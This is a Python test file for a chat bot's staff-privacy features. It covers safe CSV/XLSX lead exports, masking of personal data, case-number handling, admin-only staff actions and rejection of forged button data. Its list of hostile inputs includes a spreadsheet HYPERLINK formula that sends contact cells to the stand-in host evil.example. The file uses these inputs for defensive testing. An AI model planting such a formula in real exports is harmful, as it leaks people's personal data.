"""Staff data and powers stay with staff: no formulas in exports, no staff actions by others, no
staff output in other chats, no case number reused (issue 11, part 1)."""

from __future__ import annotations

import csv
import io
import json
import sqlite3

import pytest
from openpyxl import load_workbook

from bot import export
from bot.privacy import mask_personal
from bot.storage import Storage
from conversations.eligibility import load_rules
from conversations.flow import load_flow
from tests.conftest import ADMIN_ID, STAFF_CHAT_ID, RunningBot
from tests.fake_bot_api import FakeBotApi
from tests.pack import FLOWS, NOTICE, RULES

_RULES = load_rules("eligibility", RULES)
_FLOW = load_flow(_RULES.flow, FLOWS, NOTICE)
SHEET = export.LeadSheet(_FLOW, _RULES.formula.direction, tuple(_RULES.export))

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&D3&C3,"详情")',
    "=1+2*3",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "韶关=某某",  # a sign inside the text is harmless and kept as it is
]


def _lead(storage: Storage, company: str, name: str, phone: str) -> None:
    storage.touch_user("tg:1", "u", None, "zh")
    storage.save_lead(
        {
            "user_id": "tg:1",
            "company": company,
            "contact_name": name,
            "phone": phone,
            "consent_at": "2022-07-01T01:00:00+00:00",
            "direction": "d1",
            "verdict": "eligible",
            "estimate_yuan": "100000",
            "facts": json.dumps({"company": company}, ensure_ascii=False),
        }
    )


@pytest.fixture
def storage() -> Storage:
    return Storage(":memory:")


@pytest.mark.parametrize("value", HOSTILE)
def test_xlsx_writes_every_typed_value_as_text(storage: Storage, value: str):
    _lead(storage, value, value, value)
    data, count = export.export_leads(storage, SHEET, "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    row = next(iter(sheet.iter_rows(min_row=2, max_row=2)))
    expected = value.replace("\r", "\n")  # XML reads a bare carriage return back as a line feed
    for cell in row[1:4]:  # company, contact, phone
        assert cell.data_type == "s", (value, cell.data_type)
        assert cell.value == expected
    assert count == 1


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_neutralises_a_leading_formula_sign(storage: Storage, value: str):
    _lead(storage, value, value, value)
    data, _ = export.export_leads(storage, SHEET, "csv")
    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
    for cell in row[1:4]:
        if value[0] in "=+-@\t\r":
            assert cell == "'" + value  # a person reads the value unchanged after the quote
        else:
            assert cell == value


def test_xlsx_drops_control_characters_instead_of_failing(storage: Storage):
    _lead(storage, "韶关\x01机械\x1f", "李四", "13812345678")
    data, _ = export.export_leads(storage, SHEET, "xlsx")
    assert list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))[1][1] == "韶关机械"


def test_unanswered_questions_hide_phones_and_emails():
    assert mask_personal("请回电13812345678或0751-8884332") == "请回电***或***"
    assert mask_personal("mail me: li.si@example.com") == "mail me: ***@***"
    assert mask_personal("投资2000000元能补多少") == "投资2000000元能补多少"


def test_case_numbers_are_never_reused_after_forget(storage: Storage):
    storage.touch_user("tg:1", "a", None, "zh")
    storage.touch_user("tg:2", "b", None, "zh")
    first = storage.open_case("tg:1", "zh")
    storage.forget_user("tg:1")
    second = storage.open_case("tg:2", "zh")
    assert second > first
    storage.forget_user("tg:2")
    assert storage.open_case("tg:2", "zh") > second


def test_case_numbers_continue_after_a_restart(tmp_path):
    path = tmp_path / "bot.db"
    storage = Storage(path)
    storage.touch_user("tg:1", "a", None, "zh")
    first = storage.open_case("tg:1", "zh")
    storage.forget_user("tg:1")
    storage.close()
    assert Storage(path).open_case(1, "zh") > first


# --- end to end, through the fake Bot API server -----------------------------------------------


async def _open_case(server: FakeBotApi, user_id: int, name: str):
    staff = server.chat(STAFF_CHAT_ID)
    user = server.user(user_id, first_name=name, language_code="zh")
    await user.send("/human")
    await user.next_reply()
    header = await staff.next_reply()
    return user, header


async def test_a_non_admin_in_the_staff_group_cannot_reply_claim_or_close(
    server: FakeBotApi, running_bot: RunningBot
):
    staff = server.chat(STAFF_CHAT_ID)
    ann, header = await _open_case(server, 401, "Ann")
    member = server.user(402, first_name="Visitor", language_code="zh")

    await member.send_in(STAFF_CHAT_ID, "你的个人信息发我一下", reply_to_message_id=header.message_id)
    notice = await staff.next_reply()
    assert "仅限管理员" in notice.text
    for label in ("Claim", "Close"):
        await member.tap(label, chat_id=STAFF_CHAT_ID)
        assert "仅限管理员" in (await staff.next_reply()).text
    await ann.expect_no_reply(wait=0.5)
    case = running_bot.application.bot_data["assistant"].storage.open_case_of("tg:401")
    assert case is not None and case["status"] == "open" and case["claimed_by"] is None

    # an admin's reply to the claimed note (any message of the thread) reaches the user
    admin = server.user(ADMIN_ID, first_name="严鹏", language_code="zh")
    await admin.tap("Claim", chat_id=STAFF_CHAT_ID)
    claimed_note = await staff.next_reply()
    assert "严鹏" in claimed_note.text
    await ann.next_reply()
    await admin.send_in(STAFF_CHAT_ID, "您好，我来处理。", reply_to_message_id=claimed_note.message_id)
    assert "我来处理" in (await ann.next_reply()).text


async def test_a_staff_reply_to_a_blocked_user_tells_staff(server: FakeBotApi, running_bot: RunningBot):
    staff = server.chat(STAFF_CHAT_ID)
    ann, header = await _open_case(server, 403, "Ann")
    ann.block()
    admin = server.user(ADMIN_ID, first_name="严鹏", language_code="zh")
    await admin.send_in(STAFF_CHAT_ID, "请回复", reply_to_message_id=header.message_id)
    assert "无法送达" in (await staff.next_reply()).text


async def test_stats_asked_in_an_ordinary_group_go_to_the_admin_privately(
    server: FakeBotApi, running_bot: RunningBot
):
    user = server.user(404, first_name="Ann", language_code="zh")
    await user.send("我的手机13812345678，明天会下雨吗")
    await user.next_reply()
    group = server.chat(-100555, chat_type="supergroup", title="Some group")
    admin = server.user(ADMIN_ID, first_name="Admin", language_code="zh")
    await admin.send_in(-100555, "/stats")
    note = await group.next_reply()
    assert "私信" in note.text and "明天会下雨" not in note.text
    private = await admin.next_reply()
    assert "明天会下雨" in private.text and "13812345678" not in private.text

    await admin.send_in(-100555, "/cases")
    assert "私信" in (await group.next_reply()).text
    assert "工单" in (await admin.next_reply()).text


async def test_a_stale_button_of_a_forgotten_case_never_acts_on_another(
    server: FakeBotApi, running_bot: RunningBot
):
    staff = server.chat(STAFF_CHAT_ID)
    ann, old_header = await _open_case(server, 405, "Ann")
    await ann.send("/forget")
    await ann.next_reply()
    await ann.tap("确认删除")
    await ann.next_reply()

    bob, new_header = await _open_case(server, 406, "Bob")
    old_id = old_header.text.split("#")[1].split()[0]
    new_id = new_header.text.split("#")[1].split()[0]
    assert old_id != new_id

    admin = server.user(ADMIN_ID, first_name="严鹏", language_code="zh")
    close_old = next(d for row in old_header.button_data for (label, d) in row if "Close" in label)
    await admin.tap_data(old_header.message_id, close_old or "", chat_id=STAFF_CHAT_ID)
    assert "已不存在" in (await staff.next_reply()).text
    # forged: the new case's button data on the old message
    close_new = next(d for row in new_header.button_data for (label, d) in row if "Close" in label)
    await admin.tap_data(old_header.message_id, close_new or "", chat_id=STAFF_CHAT_ID)
    assert "已不存在" in (await staff.next_reply()).text
    await bob.expect_no_reply(wait=0.5)
    assert running_bot.application.bot_data["assistant"].storage.open_case_of("tg:406")["status"] == "open"

    # a late staff reply in the deleted case's thread says why it went nowhere
    await admin.send_in(STAFF_CHAT_ID, "还在吗", reply_to_message_id=old_header.message_id)
    assert "已删除其数据" in (await staff.next_reply()).text


def test_forget_overwrites_deleted_content(tmp_path):
    storage = Storage(tmp_path / "bot.db")
    assert storage.conn.execute("PRAGMA secure_delete").fetchone()[0] == 1
    storage.close()
    assert sqlite3.connect(tmp_path / "bot.db").execute("PRAGMA journal_mode").fetchone()[0] == "wal"
